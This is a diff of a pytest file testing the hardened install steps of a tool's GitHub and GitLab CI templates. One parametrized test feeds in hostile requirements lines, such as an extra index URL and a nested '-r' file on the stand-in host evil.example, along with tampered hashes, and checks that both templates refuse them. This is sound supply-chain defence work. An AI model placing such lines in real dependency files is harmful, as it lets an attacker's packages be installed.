@@ -71,7 +71,8 @@ def test_github_pipeline_runs_validate_and_plan_on_pull_requests_apply_on_main_a
 @pytest.fixture(scope="module")
 def runner_temp(snapshot_release, tmp_path_factory) -> Path:
     """A runner's $RUNNER_TEMP where the GitHub template's install step has installed the
-    release (each job's install step runs again over it, as pip finds everything in place)."""
+    release, afresh and checked.  The jobs below run every other step with that copy on PATH
+    (the install itself would be the same each time: about 20 s)."""
     temp = tmp_path_factory.mktemp("runner-temp")
     step = next(s for s in load("github-actions.yml")["jobs"]["plan"]["steps"] if s.get("id") == "install")
     github_path = temp / "github-path"
@@ -103,25 +104,54 @@ def test_the_install_step_installs_the_pinned_release_in_an_environment_of_its_o
     assert not any(line.lower().startswith("reconciler==") for line in listed.splitlines())
 
 
+def _gitlab_install(requirements: Path, job: str) -> tuple[subprocess.CompletedProcess, Path]:
+    """The GitLab template's before_script (but the fetch) over `requirements`, as job `job`."""
+    before = [line for line in load("gitlab-ci.yml")["default"]["before_script"] if "git fetch" not in line]
+    venv = Path(f"/tmp/reconciler-venv-{job}")
+    proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", "\n".join(before)],
+                          cwd=requirements.parent, capture_output=True, text=True,
+                          env={**os.environ, "CI_JOB_ID": job, "RECONCILER_REQUIREMENTS": str(requirements)})
+    return proc, venv
+
+
 @pytest.mark.parametrize("tamper", ["the wheel", "a dependency"])
 def test_the_install_step_refuses_a_requirements_file_whose_files_are_not_the_hashed_ones(
         snapshot_release, tmp_path, tamper):
-    """The GitLab template's before_script over a requirements file where one SHA-256 no longer
-    matches (a wheel replaced on the server, a dependency swapped): pip installs nothing and the
-    job stops before any reconciler runs."""
+    """A requirements file where one SHA-256 no longer matches (a wheel replaced on the server,
+    a dependency swapped): pip installs nothing and the job stops before any reconciler runs."""
     text = _requirements(snapshot_release).read_text()
     # Every hash of one package (a dependency's lists one per file PyPI holds for it).
     block = re.search(r"^reconciler-salud @ .*?(?=^\S)" if tamper == "the wheel" else r"^pyyaml==.*?(?=^\S)",
                       text, re.MULTILINE | re.DOTALL).group(0)
     tampered = tmp_path / "requirements.txt"
     tampered.write_text(text.replace(block, re.sub(r"sha256:[0-9a-f]{64}", "sha256:" + "0" * 64, block)))
-    before = [line for line in load("gitlab-ci.yml")["default"]["before_script"] if "git fetch" not in line]
-    venv = tmp_path / "venv"
-    proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", "\n".join(before)], cwd=tmp_path,
-                          env={**os.environ, "RECONCILER_VENV": str(venv), "RECONCILER_REQUIREMENTS": str(tampered)},
-                          capture_output=True, text=True)
-    assert proc.returncode != 0 and "DO NOT MATCH THE HASHES" in proc.stderr.upper(), proc.stderr
-    assert not (venv / "bin" / "reconciler").exists()
+    proc, venv = _gitlab_install(tampered, f"tamper-{tmp_path.name}")
+    try:
+        assert proc.returncode != 0 and "DO NOT MATCH THE HASHES" in proc.stderr.upper(), proc.stderr
+        assert not (venv / "bin" / "reconciler").exists()
+    finally:
+        subprocess.run(["rm", "-rf", str(venv)])
+
+
+@pytest.mark.parametrize("line", ["--no-binary :all:", "    -r https://evil.example/more.txt",
+                                  "--extra-index-url https://evil.example/simple", "pyyaml",
+                                  'pyyaml==6.0.4 ; python_version > "3" --no-binary :all: \\'])
+def test_the_install_step_refuses_a_requirements_file_holding_more_than_pins_and_hashes(
+        snapshot_release, tmp_path, line):
+    """pip obeys option lines in a requirements file over its command line: a --no-binary brings
+    back sdists and their unhashed build dependencies, a -r another file.  Refused before pip runs."""
+    hostile = tmp_path / "requirements.txt"
+    hostile.write_text(_requirements(snapshot_release).read_text() + line + "\n")
+    for job in ("plan", "apply", "drift"):  # the GitHub template's three copies of the step
+        step = next(s for s in load("github-actions.yml")["jobs"][job]["steps"] if s.get("id") == "install")
+        proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]], cwd=tmp_path,
+                              env={**os.environ, "RUNNER_TEMP": str(tmp_path), "GITHUB_PATH": str(tmp_path / "p"),
+                                   "RECONCILER_REQUIREMENTS": str(hostile)}, capture_output=True, text=True)
+        assert proc.returncode == 1 and "holds more than a release's pins and hashes" in proc.stdout, proc.stderr
+        assert not (tmp_path / "reconciler").exists()  # pip never ran
+    proc, venv = _gitlab_install(hostile, f"hostile-{tmp_path.name}")
+    assert proc.returncode == 1 and "holds more than a release's pins and hashes" in proc.stdout
+    assert not venv.exists()
 
 
 class Forge:
@@ -149,12 +179,12 @@ class Forge:
         # The pipeline's own inventory (inventory/production.yaml) is replaced by the sandbox's.
         # The checkout's .venv is not on PATH: the installed release must be what runs.
         path = [d for d in env["PATH"].split(":") if Path(d).resolve() != VENV_BIN.resolve()]
-        env.update(PATH=":".join([str(self.bin), *path]), FORGE_LOG=str(self.log),
+        env.update(PATH=":".join([str(self.bin), str(self.runner_temp / "reconciler" / "bin"), *path]),
+                   FORGE_LOG=str(self.log),
                    FORGE_POSTED=str(self.posted), FORGE_PR_NUMBER=str(self.pr),
                    RECONCILER_INVENTORY=str(self.sandbox.inventory), GITHUB_ENV=str(self.ci_env),
                    GITHUB_STEP_SUMMARY=str(self.tmp / "summary.md"), GITHUB_REPOSITORY="ssm/identidades",
-                   GITHUB_PATH=str(self.ci_path), RUNNER_TEMP=str(self.runner_temp),
-                   RECONCILER_VENV=str(self.runner_temp / "reconciler"), NO_COLOR="1")
+                   GITHUB_PATH=str(self.ci_path), RUNNER_TEMP=str(self.runner_temp), NO_COLOR="1")
         return env
 
     def push(self, *refs: str) -> None:
@@ -170,8 +200,8 @@ class Forge:
         self.ci_path.write_text("")
         results, failed = [], False
         for step in workflow["jobs"][job]["steps"]:
-            if "uses" in step:
-                continue  # actions/checkout: the sandbox's repository is the checkout
+            if "uses" in step or step.get("id") == "install":
+                continue  # checkout: the sandbox's repository; install: done by runner_temp, on PATH
             if failed and step.get("if") != "always()":
                 continue
             step_env = {k: _expression(str(v)) for k, v in (step.get("env") or {}).items()}
@@ -191,7 +221,11 @@ class Forge:
 
     def run_gitlab_job(self, job: str, **extra: str) -> subprocess.CompletedProcess:
         pipeline = load("gitlab-ci.yml")
-        script = "\n".join(pipeline["default"]["before_script"] + pipeline[job]["script"])
+        # The install lines are the GitHub step's (runner_temp installed the release, on PATH);
+        # the GitLab copy is run by the tests of refusals above.
+        before = [line for line in pipeline["default"]["before_script"]
+                  if "RECONCILER_VENV" not in line and "RECONCILER_REQUIREMENTS" not in line]
+        script = "\n".join(before + pipeline[job]["script"])
         env = self.env(**pipeline["variables"], CI_API_V4_URL="https://gitlab.example/api/v4", CI_PROJECT_ID="7",
                        **extra)
         env["RECONCILER_REQUIREMENTS"] = str(self.requirements)
@@ -234,9 +268,6 @@ def test_github_pipeline_steps_plan_a_pull_request_apply_it_on_merge_and_report_
     sandbox.repo.git.git.checkout("-q", "--detach", "HEAD")
     results = forge.run_github_job("plan", GITHUB_BASE_REF="main")
     assert all(code == 0 for code in _exits(results).values()), results
-    from reconciler import __version__
-
-    assert dict((n, o) for n, _, o in results)["Install the reconciler"] == f"reconciler {__version__}\n"
     posted = forge.posted.read_text(encoding="utf-8")
     assert "reconciler-fingerprint: " in posted and "zguemeso (Zoé Güemes O'Brien)" in posted
     # The pull request's own change awaits its approval; the alta already on main is judged.
@@ -268,7 +299,7 @@ def test_github_pipeline_steps_plan_a_pull_request_apply_it_on_merge_and_report_
     # Nightly: a hand edit is drift; the job fails and its summary shows it.
     sandbox.conn.modify(sandbox.account("jnunezo")["dn"], {"title": [(MODIFY_REPLACE, ["Otro"])]})
     results = forge.run_github_job("drift")
-    assert _exits(results) == {"Install the reconciler": 0, "Fetch the signed approvals": 0, "Full plan of main": 2,
+    assert _exits(results) == {"Fetch the signed approvals": 0, "Full plan of main": 2,
                                "Prove the security rules": 0}  # no firewall here
     assert "cambiado fuera del reconciliador (deriva)" in (tmp_path / "summary.md").read_text(encoding="utf-8")
 
